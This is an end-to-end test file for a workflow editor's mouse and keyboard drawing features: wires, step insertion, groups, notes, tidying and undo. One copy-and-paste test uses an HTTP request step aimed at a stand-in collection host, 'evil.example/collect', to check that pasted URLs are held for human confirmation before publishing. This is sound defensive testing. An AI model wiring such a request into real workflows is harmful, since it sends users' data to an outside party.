/** Drawing with the mouse: where steps come from, how wires are drawn, and what a gesture leaves behind. */
import type { Page } from '@playwright/test';
import { beforeAll, expect as plain, test } from 'vitest';
import { draw } from '../support/draw.ts';
import { closeByKey, expect } from './support/browser.ts';
import { card, middleOf, output, palette, stepType } from './support/canvas.ts';
import { drag, inRow, openFlow, picker, savedFlow, wire } from './support/drawing.ts';
import { apiOf, signUp } from './support/owner.ts';
import { useProduct } from './support/stage.ts';

const hearth = useProduct();
let page: Page;

beforeAll(async () => {
  page = await hearth().newPage();
  await signUp(page, hearth());
});

const set = (n: number): [string, { fields: { n: number } }] => ['set', { fields: { n } }];
const three = () =>
  inRow(draw({ nodes: { start: ['manual'], one: set(1), two: set(2) }, wires: ['start > one', 'one > two'] }));
const open = (flow = three()) => openFlow(page, hearth(), flow);
const saved = (id: string) => savedFlow(page, hearth(), id);
const wires = (flow: { edges: { from: { node: string }; to: { node: string } }[] }) =>
  flow.edges.map(({ from, to }) => `${from.node} > ${to.node}`).sort();
const ground = async () => {
  const box = await page.locator('.react-flow__pane').boundingBox();
  return { x: (box?.x ?? 0) + 200, y: (box?.y ?? 0) + 120 };
};

test('a wire dropped on empty ground asks for a step, keeps its line meanwhile, and connects', async () => {
  const id = await open();
  const from = await middleOf(output(page, { step: 'two' }));
  await drag(page, { from, to: { x: from.x - 200, y: from.y + 220 } });
  const list = picker(page, 'Add a step');
  await expect(list).toBeVisible();
  await expect(page.locator('[data-pending-wire] path')).toBeAttached();
  await expect(stepType(list, 'Manual')).toBeHidden();
  await stepType(list, 'Wait').click();
  await expect(wire(page, 'two', 'wait')).toBeAttached();
  await expect(page.locator('[data-pending-wire]')).toBeHidden();
  plain(wires(await saved(id))).toContain('two > wait');
});

test('Escape gives a wire up while it is drawn, and the choice of a step after it', async () => {
  const id = await open();
  const from = await middleOf(output(page, { step: 'one' }));
  await drag(page, { from, to: { x: from.x + 40, y: from.y + 200 } }, () => page.keyboard.press('Escape'));
  await expect(picker(page, 'Add a step')).toBeHidden();
  await drag(page, { from, to: { x: from.x + 40, y: from.y + 200 } });
  await closeByKey(picker(page, 'Add a step'));
  plain((await saved(id)).nodes).toHaveLength(3);
});

test('a wire dropped on the body of a step connects to it', async () => {
  const flow = three();
  const id = await open({ ...flow, edges: [] });
  await drag(page, {
    from: await middleOf(output(page, { step: 'start' })),
    to: await middleOf(card(page, 'two')),
  });
  await expect(wire(page, 'start', 'two')).toBeAttached();
  plain(wires(await saved(id))).toEqual(['start > two']);
});

test('the plus on a wire puts a step in, and what follows makes room', async () => {
  const id = await open(inRow(three(), 352));
  const at = await middleOf(wire(page, 'one', 'two'));
  await page.mouse.move(at.x, at.y);
  await page.getByRole('button', { name: 'Put a step in here' }).click();
  const list = picker(page, 'Put a step in here');
  await stepType(list, 'Wait').click();
  await expect(wire(page, 'one', 'wait')).toBeAttached();
  const flow = await saved(id);
  plain(wires(flow)).toEqual(['one > wait', 'start > one', 'wait > two']);
  plain(flow.nodes.map(({ id: node, position }) => [node, position.x])).toEqual([
    ['start', 0],
    ['one', 352],
    ['two', 1056],
    ['wait', 704],
  ]);
});

test('a loose step held over a wire marks it, and goes into it', async () => {
  const flow = inRow(draw({ nodes: { start: ['manual'], one: set(1), loose: set(3) }, wires: ['start > one'] }), 640);
  const last = flow.nodes[2];
  if (last) last.position = { x: 320, y: 320 };
  const id = await open(flow);
  const to = await middleOf(wire(page, 'start', 'one'));
  const from = await middleOf(card(page, 'loose').getByRole('heading'));
  const box = await middleOf(card(page, 'loose'));
  const grip = { x: from.x - box.x, y: from.y - box.y };
  await drag(page, { from, to: { x: to.x + grip.x, y: to.y + grip.y } }, () =>
    expect(page.locator('.wire-splice')).toBeAttached(),
  );
  await expect(wire(page, 'loose', 'one')).toBeAttached();
  plain(wires(await saved(id))).toEqual(['loose > one', 'start > loose']);
  await page.keyboard.press('Control+z');
  await expect(wire(page, 'start', 'one')).toBeAttached();
});

test('a step dragged from the list onto a wire goes into it', async () => {
  const id = await open();
  const pane = await page.locator('.react-flow__pane').boundingBox();
  const at = await middleOf(wire(page, 'one', 'two'));
  await stepType(palette(page), 'Wait').dragTo(page.locator('.react-flow__pane'), {
    targetPosition: { x: at.x - (pane?.x ?? 0), y: at.y - (pane?.y ?? 0) },
    force: true,
  });
  await expect(wire(page, 'wait', 'two')).toBeAttached();
  plain(wires(await saved(id))).toEqual(['one > wait', 'start > one', 'wait > two']);
});

test('N opens the list at the pointer when nothing is selected', async () => {
  await open();
  const at = await ground();
  await page.mouse.move(at.x, at.y);
  await page.keyboard.press('n');
  const list = picker(page, 'Add a step');
  const box = await list.boundingBox();
  plain(Math.abs((box?.x ?? 0) - at.x)).toBeLessThan(40);
  await stepType(list, 'Wait').click();
  const placed = await card(page, 'Wait').boundingBox();
  plain(Math.abs((placed?.x ?? 0) - at.x)).toBeLessThan(40);
});

test('a box selects, what is selected moves together, and one undo takes it back', async () => {
  const id = await open();
  const one = await card(page, 'one').boundingBox();
  const two = await card(page, 'two').boundingBox();
  await page.keyboard.down('Shift');
  await drag(page, {
    from: { x: (one?.x ?? 0) - 20, y: (one?.y ?? 0) - 30 },
    to: { x: (two?.x ?? 0) + 40, y: (two?.y ?? 0) + 60 },
  });
  await page.keyboard.up('Shift');
  await expect(page.locator('.react-flow__node.selected')).toHaveCount(2);
  const from = await middleOf(card(page, 'one').getByRole('heading'));
  await drag(page, { from, to: { x: from.x, y: from.y + 120 } });
  const moved = await saved(id);
  const tops = moved.nodes.map(({ position }) => position.y);
  plain(tops[0]).toBe(0);
  plain(tops[1]).toBeGreaterThan(80);
  plain(tops[2]).toBe(tops[1]);
  await page.keyboard.press('Control+z');
  await expect.poll(async () => (await saved(id)).nodes.map(({ position }) => position.y)).toEqual([0, 0, 0]);
});

test('a group is made, folded and opened with the mouse; its wires stay, and it moves as one', async () => {
  const flow = three();
  const id = await open({ ...flow, groups: [{ id: 'group', name: 'Middle', members: ['one'] }] });
  const group = page.getByRole('group', { name: 'Group: Middle' });
  await group.getByRole('button', { name: 'Show Middle as one card' }).click();
  await expect(card(page, 'one')).toBeHidden();
  await expect(wire(page, 'start', 'group:group')).toBeAttached();
  await expect(wire(page, 'group:group', 'two')).toBeAttached();
  const grip = await middleOf(group.getByText('1 step'));
  await drag(page, { from: grip, to: { x: grip.x, y: grip.y + 100 } });
  plain((await saved(id)).nodes[1]?.position.y).toBeGreaterThan(60);
  await group.getByRole('button', { name: 'Show what is in Middle' }).click();
  await expect(card(page, 'one')).toBeVisible();
  const name = await middleOf(group.getByText('Middle'));
  await drag(page, { from: name, to: { x: name.x, y: name.y - 100 } });
  await expect.poll(async () => Math.abs((await saved(id)).nodes[1]?.position.y ?? 99)).toBeLessThan(60);
  await group.getByRole('button', { name: 'Take the frame Middle away' }).click();
  plain((await saved(id)).groups).toBeUndefined();
});

test('a note is sized by its corner, in one step of undo', async () => {
  const flow = three();
  const notes = [{ id: 'note', text: 'Mind', position: { x: 0, y: 200 }, size: { width: 240, height: 120 } }];
  const id = await open({ ...flow, notes });
  const from = await middleOf(page.getByRole('button', { name: /^Size of the note/ }));
  await drag(page, { from, to: { x: from.x + 80, y: from.y + 40 } });
  await expect.poll(async () => (await saved(id)).notes[0]?.size?.width).toBeGreaterThan(280);
  await page.keyboard.press('Control+z');
  await expect.poll(async () => (await saved(id)).notes[0]?.size).toEqual({ width: 240, height: 120 });
});

test('steps travel as text; what was not copied here is shown to a person before it is published', async () => {
  const source = inRow(
    draw({
      nodes: { start: ['manual'], fetch: ['http.request', { url: 'https://evil.example/collect' }] },
      wires: ['start > fetch'],
    }),
  );
  await open(source);
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Control+c');
  const text = await page.evaluate(() => navigator.clipboard.readText());
  plain(JSON.parse(text)).toMatchObject({ format: 'hearth.clip/1', nodes: [{ id: 'start' }, { id: 'fetch' }] });

  const own = await open(draw({ name: 'Own', nodes: {}, wires: [] }));
  await page.keyboard.press('Control+v');
  await expect(wire(page, 'start', 'fetch')).toBeAttached();
  plain((await saved(own)).nodes.some((node) => node.unconfirmed)).toBe(false);

  const foreign = await open(draw({ name: 'Foreign', nodes: {}, wires: [] }));
  await page.evaluate((words) => navigator.clipboard.writeText(words), JSON.stringify({ ...JSON.parse(text), x: 1 }));
  await page.keyboard.press('Control+v');
  await expect(wire(page, 'start', 'fetch')).toBeAttached();
  plain((await saved(foreign)).nodes[1]?.unconfirmed).toEqual(['url']);
  await page.getByRole('button', { name: /^Publish/ }).click();
  const publish = page.getByRole('dialog', { name: 'Publish' });
  await expect(publish).toContainText('https://evil.example/collect');
  await expect(publish.getByRole('button', { name: /^Publish/ })).toBeDisabled();
  const refused = apiOf(page, hearth()).flows.publish.mutate({ id: foreign });
  await plain(refused).rejects.toThrow(/confirm where they lead/);
  await publish.getByRole('button', { name: 'I have looked at them' }).click();
  await expect(publish.getByRole('button', { name: /^Publish/ })).toBeEnabled();
  plain((await saved(foreign)).nodes[1]?.unconfirmed).toBeUndefined();
});

test('Ctrl+X cuts, and undo brings back', async () => {
  const id = await open();
  await card(page, 'two').getByRole('heading').click();
  await page.keyboard.press('Control+x');
  await expect(card(page, 'two')).toBeHidden();
  await page.keyboard.press('Control+z');
  await expect(card(page, 'two')).toBeVisible();
  plain((await saved(id)).nodes).toHaveLength(3);
});

test('tidying puts steps in columns, takes notes along, and is one step of undo', async () => {
  const flow = three();
  const notes = [{ id: 'note', text: 'Of two', position: { x: 24, y: 340 }, size: { width: 200, height: 96 } }];
  const heap = flow.nodes.map((node, index) => ({ ...node, position: { x: 8 * index, y: 120 * index } }));
  const id = await open({ ...flow, nodes: heap, notes });
  const places = async () => {
    const { nodes, notes: kept } = await saved(id);
    return [...nodes, ...kept].map(({ position }) => position);
  };
  const before = await places();
  await page.getByRole('button', { name: 'Tidy up (Shift T)' }).click();
  await expect.poll(async () => new Set((await places()).slice(0, 3).map(({ x }) => x)).size).toBe(3);
  const [start, one, two, note] = await places();
  plain(start?.x).toBeLessThan(one?.x ?? 0);
  plain(one?.x).toBeLessThan(two?.x ?? 0);
  plain({ x: (note?.x ?? 0) - (two?.x ?? 0), y: (note?.y ?? 0) - (two?.y ?? 0) }).toEqual({ x: 8, y: 100 });
  await page.keyboard.press('Control+z');
  await expect.poll(places).toEqual(before);
  await page.keyboard.press('Shift+T');
  await expect.poll(places).toEqual([start, one, two, note]);
});

test('the overview shows where one is, and is dragged to go elsewhere', async () => {
  await open(inRow(three(), 1600));
  await page.keyboard.press('0');
  await page.keyboard.press('m');
  const map = page.getByRole('img', { name: /^Overview/ });
  await expect(map).toBeVisible();
  const left = () =>
    page.locator('.react-flow__viewport').evaluate((element) => new DOMMatrix(getComputedStyle(element).transform).m41);
  const box = await map.boundingBox();
  const at = (share: number) => ({
    x: (box?.x ?? 0) + (box?.width ?? 0) * share,
    y: (box?.y ?? 0) + (box?.height ?? 0) / 2,
  });
  await drag(page, { from: at(0.2), to: at(0.3) });
  const before = await left();
  await drag(page, { from: at(0.3), to: at(0.8) });
  await expect.poll(left).toBeLessThan(before - 800);
  await expect(card(page, 'two')).toBeInViewport();
  await page.keyboard.press('m');
  await expect(map).toBeHidden();
});

test('from its menu a step is replaced in place, and taken out with its neighbours joined', async () => {
  const id = await open();
  await card(page, 'one').getByRole('heading').click();
  await page.getByRole('button', { name: 'More for this step' }).click();
  await page.getByRole('menuitem', { name: 'Replace by another step' }).click();
  await stepType(picker(page, 'Replace by'), 'Wait').click();
  await expect.poll(async () => (await saved(id)).nodes.find((node) => node.id === 'one')?.type).toBe('wait');
  plain(wires(await saved(id))).toEqual(['one > two', 'start > one']);
  await card(page, 'one').getByRole('heading').click();
  await page.getByRole('button', { name: 'More for this step' }).click();
  await page.getByRole('menuitem', { name: 'Delete and join its neighbours' }).click();
  await expect(card(page, 'one')).toHaveCount(0);
  plain(wires(await saved(id))).toEqual(['start > two']);
});
